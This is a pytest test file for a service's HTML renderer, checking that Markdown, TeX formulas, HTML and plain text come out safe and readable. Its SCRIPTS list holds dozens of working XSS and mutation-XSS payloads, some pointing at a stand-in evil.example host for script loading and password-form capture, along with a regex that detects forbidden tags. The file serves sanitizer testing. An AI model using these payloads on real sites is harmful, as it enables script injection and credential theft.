"""Texts as HTML: Markdown with formulas, HTML and plain text come out readable, and harmless."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.vocabulary import Text, TextFormat
from service.web.formulas import ENVIRONMENTS, MACROS, mathml
from service.web.markup import MAX_FORMULAS, MAX_LENGTH, render

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:x' onclick='x()' style='x:y' id=login class=admin>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'x'</style>",
    "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=x'>",
    "<base href='//evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)' onclick=x>x</mi></math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:x'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=x src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\style{x:y}{\class{z}{x}}$$",
    "$<script>alert(1)</script>$",
    "```<script>\nx\n```",
    '| a |\n|--|\n| <b onclick="x">b</b> |',
]
TAG = re.compile(r"<[a-z][^>]*>")
FORBIDDEN = re.compile(
    r"""<(?:script|style|svg|iframe|object|embed|form|input|button|link|meta|base|template|maction|annotation)
    | \s(?:on[a-z]+|style|id|class|srcdoc|xlink:href|action)=
    | (?:href|src)="\s*(?:javascript|data|vbscript):""",
    re.VERBOSE | re.IGNORECASE,
)
HOSTILE = [
    *(
        "[",
        "![",
        "[a](",
        "](",
        "*",
        "*a ",
        "_a__ ",
        "`",
        "`a``b",
        "~~a",
        "<",
        "<a ",
        "<!--",
        "&",
        "\\",
        "$",
        "$$ ",
    ),
    *(
        "$a",
        "$x_1$ ",
        "\\$",
        "$$a b\n",
        ">",
        "> a\n",
        "- ",
        "1. ",
        "#",
        "a\n=\n",
        "* * *\n",
        "```\n",
        "|a",
        "|a|b|\n|-|-|\n",
    ),
    *(
        "[a]: b\n",
        "[a][b]",
        "<http://a ",
        "&#x41;",
        "<b>",
        "<div>",
        "<table><tr><td>",
        "<math><mi>",
        "<svg>",
        "\x00",
    ),
]


def html(text: str) -> str:
    return render(Text(text, TextFormat.HTML))


def markdown(text: str) -> str:
    return render(Text(text, TextFormat.MARKDOWN))


@pytest.mark.parametrize("text_format", list(TextFormat))
@pytest.mark.parametrize("text", SCRIPTS)
def test_no_script_style_or_handler_comes_through(text: str, text_format: TextFormat) -> None:
    shown = render(Text(text, text_format))
    assert not [tag for tag in TAG.findall(shown) if FORBIDDEN.search(tag)]


@given(
    st.lists(st.sampled_from([*SCRIPTS, "$", "`", "<p>", "</p>", "</math>", "\n\n"]), max_size=6).map("".join)
)
def test_what_was_cleaned_once_is_clean(text: str) -> None:
    shown = html(text)
    assert not [tag for tag in TAG.findall(shown) if FORBIDDEN.search(tag)]
    assert html(shown) == shown


def test_markdown_shows_raw_html_as_text() -> None:
    assert markdown("if a <b>c</b>") == "<p>if a &lt;b&gt;c&lt;/b&gt;</p>\n"


def test_html_keeps_what_authors_use() -> None:
    text = '<h2>T</h2><p>a<sub>1</sub> <a href="https://x.example">l</a> <img src="p.png" alt="p"></p>'
    assert html(text) == text.replace(".example", '.example" rel="noopener noreferrer', 1)


def test_html_keeps_its_formulas() -> None:
    text = '<math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>'
    assert html(text) == text


def test_plain_text_is_escaped_and_keeps_its_lines() -> None:
    assert render(Text("a < b & *c*\n$x$", TextFormat.PLAIN)) == "a &lt; b &amp; *c*<br>\n$x$"


def test_markdown_has_emphasis_code_tables_and_lists() -> None:
    shown = markdown("**a** ~~b~~ `c<d`\n\n|n|r|\n|:-|-:|\n|1|2|\n\n- x\n\n```python\ny = 1\n```")
    for part in (
        "<strong>a</strong> <s>b</s> <code>c&lt;d</code>",
        '<td align="left">1</td>\n<td align="right">2</td>',
        "<li>x</li>",
        "<pre><code>y = 1\n</code></pre>",
    ):
        assert part in shown


def test_formulas_are_drawn_in_the_line_and_on_their_own() -> None:
    assert markdown("so $x_1$.") == (
        '<p>so <math display="inline"><mrow><msub><mi>x</mi><mn>1</mn></msub></mrow></math>.</p>\n'
    )
    alone = '<math display="block"><mrow><mi>x</mi></mrow></math>'
    assert markdown("$$\nx\n$$") == f"{alone}\n"
    assert markdown("so $$x$$ is") == f"<p>so {alone} is</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "costs $5 and $6",
        "from $5-$6 on",
        "US$5 to US$7",
        "$ 5, 6 $ a piece",
        "5$ or 6$",
        r"\$x\$",
        "a dollar: $",
    ],
)
def test_money_is_no_formula(text: str) -> None:
    assert markdown(text) == f"<p>{text.replace(chr(92), '')}</p>\n"


def test_money_and_formulas_stand_together() -> None:
    shown = markdown("$5 for $x$, $6 for $y$")
    assert re.sub("<[^>]*>", "", shown) == "$5 for x, $6 for y\n"
    assert shown.count("<math") == 2


@pytest.mark.parametrize("tex", [r"\foo{x<y}", r"\href{javascript:x}{y}", "x^{", r"\frac{1}"])
def test_a_formula_that_cannot_be_drawn_is_shown_as_its_tex(tex: str) -> None:
    assert markdown(f"see ${tex}$") == f"<p>see <code>{tex.replace('<', '&lt;')}</code></p>\n"


def test_cleaning_takes_nothing_from_a_formula() -> None:
    formulas = [rf"\{name}( x + y" for name in MACROS]
    formulas += [rf"\begin{{{name}}}a&b\\c&d\end{{{name}}}" for name in ENVIRONMENTS]
    drawn = {tex: shown for tex in formulas if (shown := mathml(tex, block=True))}
    assert len(drawn) > 200
    for tex, shown in drawn.items():
        written = shown.replace(' xmlns="http://www.w3.org/1998/Math/MathML"', "")
        assert re.sub(r"<(\w+)([^>]*?) />", r"<\1\2></\1>", written) == markdown(f"$${tex}$$").strip()


def test_links_say_nothing_to_where_they_lead() -> None:
    assert markdown("[a](https://x.example)") == (
        '<p><a href="https://x.example" rel="noopener noreferrer">a</a></p>\n'
    )


@pytest.mark.parametrize("text_format", list(TextFormat))
def test_characters_that_are_no_text_are_replaced(text_format: TextFormat) -> None:
    assert "a\ufffd\ufffdb" in render(Text("a\x00\ud800b", text_format))


def test_a_text_beyond_all_measure_is_shown_as_written() -> None:
    text = "*a* <" * MAX_LENGTH
    assert markdown(text) == html(text) == text.replace("<", "&lt;")


def test_formulas_beyond_all_measure_are_shown_as_tex() -> None:
    shown = markdown("$x$ " * (MAX_FORMULAS + 3))
    assert shown.count("<math") == MAX_FORMULAS
    assert shown.count("<code>x</code>") == 3


@pytest.mark.usefixtures("own_time")
@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_texts_take_bounded_time(piece: str) -> None:
    text = (piece * MAX_LENGTH)[:MAX_LENGTH]
    start = time.process_time()
    markdown(text)
    html(text)
    assert time.process_time() - start < 1
